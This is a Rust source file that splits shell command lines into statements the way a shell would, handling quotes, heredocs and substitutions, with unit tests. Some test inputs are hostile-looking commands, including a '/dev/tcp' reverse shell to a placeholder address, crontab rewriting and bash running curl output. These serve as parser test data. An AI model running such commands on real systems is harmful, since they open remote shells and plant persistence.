//! Splits a command line into statements the way a shell would.

use memchr::memchr;

use crate::construct::{construct_end, opens_construct};

/// The statements of a command line, in order and trimmed; empty ones are left out.
///
/// Splits at `;`, `&&`, `||`, `|`, `&`, `(`, `)` and line ends that stand outside quotes,
/// heredocs, `` `..` `` and `$(..)`. The body of a heredoc belongs to the last statement of the
/// line that announces it. A quote that is never closed is an ordinary character. Linear in the
/// length of the command.
pub fn statements(command: &str) -> impl Iterator<Item = &str> {
    pieces(command).map(|piece| piece.text).filter(|text| !text.is_empty())
}

/// What stands between two statements.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Operator {
    /// Nothing: the command ends here.
    End,
    /// `;` or the end of a line.
    Sequence,
    /// `&&`
    And,
    /// `||`
    Or,
    /// `|` or `|&`
    Pipe,
    /// `&`
    Background,
    /// `(`
    Open,
    /// `)`
    Close,
}

/// One statement, possibly empty, and the operator that ends it.
#[derive(Clone, Copy, Debug)]
pub struct Piece<'a> {
    /// The statement, trimmed, with the heredoc body behind it.
    pub text: &'a str,
    /// Where in `text` the heredoc body begins, in bytes; the length of `text` when there is none.
    pub body_start: usize,
    /// What ends the statement.
    pub end: Operator,
}

impl<'a> Piece<'a> {
    /// The statement without its heredoc body.
    pub fn head(&self) -> &'a str {
        self.text.get(..self.body_start).unwrap_or(self.text)
    }

    /// The heredoc body, with its closing tag.
    pub fn body(&self) -> &'a str {
        self.text.get(self.body_start..).unwrap_or_default()
    }
}

/// The statements as [`statements`] splits them, empty ones too, with what stands between them.
pub fn pieces(command: &str) -> Pieces<'_> {
    Pieces { text: command, at: 0, tags: Vec::new(), quotes_close: true, finished: false }
}

/// Iterator of [`pieces`].
#[derive(Debug)]
pub struct Pieces<'a> {
    text: &'a str,
    at: usize,
    /// Heredocs announced on this line, whose bodies come after it.
    tags: Vec<Tag<'a>>,
    /// False once a quote was found open; from there on quotes are ordinary characters, which
    /// also keeps the whole scan linear.
    quotes_close: bool,
    finished: bool,
}

#[derive(Clone, Copy, Debug)]
struct Tag<'a> {
    name: &'a str,
    tabs_dropped: bool,
}

impl<'a> Iterator for Pieces<'a> {
    type Item = Piece<'a>;

    fn next(&mut self) -> Option<Piece<'a>> {
        if self.finished {
            return None;
        }
        let start = self.at;
        let mut in_comment = false;
        loop {
            let here = self.at;
            let Some(&byte) = self.text.as_bytes().get(here) else {
                self.finished = true;
                return Some(self.piece(start, here, here, Operator::End));
            };
            if !is_special(byte) {
                self.at += 1;
            } else if let Some((operator, length)) = self.operator(start, byte) {
                self.at += length;
                let mut stop = here;
                if byte == b'\n' && !self.tags.is_empty() {
                    self.skip_bodies();
                    stop = self.at;
                }
                return Some(self.piece(start, here, stop, operator));
            } else if in_comment {
                self.at += 1;
            } else {
                in_comment = byte == b'#' && self.is_word_start(start);
                self.step(byte);
            }
        }
    }
}

impl<'a> Pieces<'a> {
    fn piece(&self, start: usize, head_end: usize, stop: usize, end: Operator) -> Piece<'a> {
        let untrimmed = self.text.get(start..stop).unwrap_or_default();
        let text = untrimmed.trim();
        let dropped = untrimmed.len() - untrimmed.trim_start().len();
        let body_start = if stop > head_end {
            (head_end - start).saturating_sub(dropped).min(text.len())
        } else {
            text.len()
        };
        Piece { text, body_start, end }
    }

    fn byte(&self, at: usize) -> u8 {
        self.text.as_bytes().get(at).copied().unwrap_or_default()
    }

    fn byte_before(&self, start: usize) -> u8 {
        if self.at > start { self.byte(self.at - 1) } else { b' ' }
    }

    fn is_word_start(&self, start: usize) -> bool {
        self.byte_before(start).is_ascii_whitespace()
    }

    /// The operator that begins here, and its length in bytes.
    fn operator(&self, start: usize, byte: u8) -> Option<(Operator, usize)> {
        let next = self.byte(self.at + 1);
        match byte {
            b';' | b'\n' => Some((Operator::Sequence, 1)),
            b'(' => Some((Operator::Open, 1)),
            b')' => Some((Operator::Close, 1)),
            b'|' if self.byte_before(start) == b'>' => None,
            b'|' if next == b'|' => Some((Operator::Or, 2)),
            b'|' if next == b'&' => Some((Operator::Pipe, 2)),
            b'|' => Some((Operator::Pipe, 1)),
            b'&' if matches!(self.byte_before(start), b'<' | b'>') || next == b'>' => None,
            b'&' if next == b'&' => Some((Operator::And, 2)),
            b'&' => Some((Operator::Background, 1)),
            _ => None,
        }
    }

    /// Moves past one character, or past a whole quoted part.
    fn step(&mut self, byte: u8) {
        let next = self.byte(self.at + 1);
        match byte {
            b'\\' => self.at = (self.at + 2).min(self.text.len()),
            b'<' if next == b'<' => self.announce_heredoc(),
            _ if self.quotes_close && opens_construct(byte, next) => {
                let end = construct_end(self.text.as_bytes(), self.at);
                self.quotes_close = end.is_some();
                self.at = end.unwrap_or(self.at + 1);
            }
            _ => self.at += 1,
        }
    }

    /// Reads `<<TAG`, `<<-TAG`, `<<'TAG'`; `<<<` is no heredoc.
    fn announce_heredoc(&mut self) {
        self.at += 2;
        if self.byte(self.at) == b'<' {
            self.at += 1;
            return;
        }
        let tabs_dropped = self.byte(self.at) == b'-';
        self.at += usize::from(tabs_dropped);
        while matches!(self.byte(self.at), b' ' | b'\t') {
            self.at += 1;
        }
        let rest = self.text.get(self.at..).unwrap_or_default();
        let ends = |c: char| c.is_whitespace() || ";|&<>()".contains(c);
        let word = rest.get(..rest.find(ends).unwrap_or(rest.len())).unwrap_or_default();
        let name = word.trim_start_matches('\\').trim_matches(['\'', '"']);
        self.at += word.len();
        if !name.is_empty() {
            self.tags.push(Tag { name, tabs_dropped });
        }
    }

    /// Moves past the bodies of all announced heredocs; an unclosed one takes all that is left.
    fn skip_bodies(&mut self) {
        for tag in std::mem::take(&mut self.tags) {
            while self.at < self.text.len() {
                let rest = self.text.get(self.at..).unwrap_or_default();
                let length = memchr(b'\n', rest.as_bytes()).unwrap_or(rest.len());
                let line = rest.get(..length).unwrap_or_default().trim_end_matches('\r');
                let line = if tag.tabs_dropped { line.trim_start_matches('\t') } else { line };
                self.at = (self.at + length + 1).min(self.text.len());
                if line == tag.name {
                    break;
                }
            }
        }
    }
}

fn is_special(byte: u8) -> bool {
    matches!(
        byte,
        b';' | b'\n'
            | b'('
            | b')'
            | b'|'
            | b'&'
            | b'\\'
            | b'<'
            | b'>'
            | b'$'
            | b'\''
            | b'"'
            | b'`'
            | b'#'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, expected: &[&str]) {
        assert_eq!(statements(command).collect::<Vec<_>>(), expected);
    }

    #[test]
    fn splits_at_operators() {
        check(
            "uname -a; id && w || who | wc -l & sleep 1\nls",
            &["uname -a", "id", "w", "who", "wc -l", "sleep 1", "ls"],
        );
        check(";;  ; && |", &[]);
        check("", &[]);
        check("ls >/dev/null 2>&1 & w &>/dev/null", &["ls >/dev/null 2>&1", "w &>/dev/null"]);
        check("(crontab -l; echo x) | crontab -", &["crontab -l", "echo x", "crontab -"]);
        check("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", &["bash -i >& /dev/tcp/192.0.2.1/99 0>&1"]);
    }

    #[test]
    fn leaves_quoted_parts_whole() {
        check(
            "echo 'a;b' \"c|d\" $(e; f) `g; h` i\\;j; k",
            &["echo 'a;b' \"c|d\" $(e; f) `g; h` i\\;j", "k"],
        );
        check("sh -c \"x 'y;' $(echo \")\"; z)\"; w", &["sh -c \"x 'y;' $(echo \")\"; z)\"", "w"]);
        check(r"echo $'it\'s; ok'; id", &[r"echo $'it\'s; ok'", "id"]);
        check("bash <(curl x; y); id", &["bash <(curl x; y)", "id"]);
    }

    #[test]
    fn an_open_quote_is_an_ordinary_character() {
        check("it's; wget x; \"y; z", &["it's", "wget x", "\"y", "z"]);
        check("echo $(uname; id", &["echo $", "uname", "id"]);
    }

    #[test]
    fn a_comment_hides_quotes_but_not_statements() {
        check("# don't; id\nw", &["# don't", "id", "w"]);
        check("#!/bin/sh; uname -a", &["#!/bin/sh", "uname -a"]);
        check("echo a#'b;c'", &["echo a#'b;c'"]);
    }

    #[test]
    fn heredocs_stay_with_their_statement() {
        check("cat > f <<EOF\na; b\nEOF\nsh f", &["cat > f <<EOF\na; b\nEOF", "sh f"]);
        check("cat <<-'X' | sh\n\ta;'\n\tX\nid", &["cat <<-'X'", "sh\n\ta;'\n\tX", "id"]);
        check("cat <<A <<B\n1\nA\n2\nB\nid", &["cat <<A <<B\n1\nA\n2\nB", "id"]);
        check("cat <<EOF\nnever; closed", &["cat <<EOF\nnever; closed"]);
        check("cat <<EOF; id", &["cat <<EOF", "id"]);
        check("chpasswd <<< 'a:b'; id", &["chpasswd <<< 'a:b'", "id"]);
        let piece = pieces("  cat <<E\nbody\nE\n").next().unwrap();
        assert_eq!((piece.head(), piece.body()), ("cat <<E", "\nbody\nE"));
    }
}
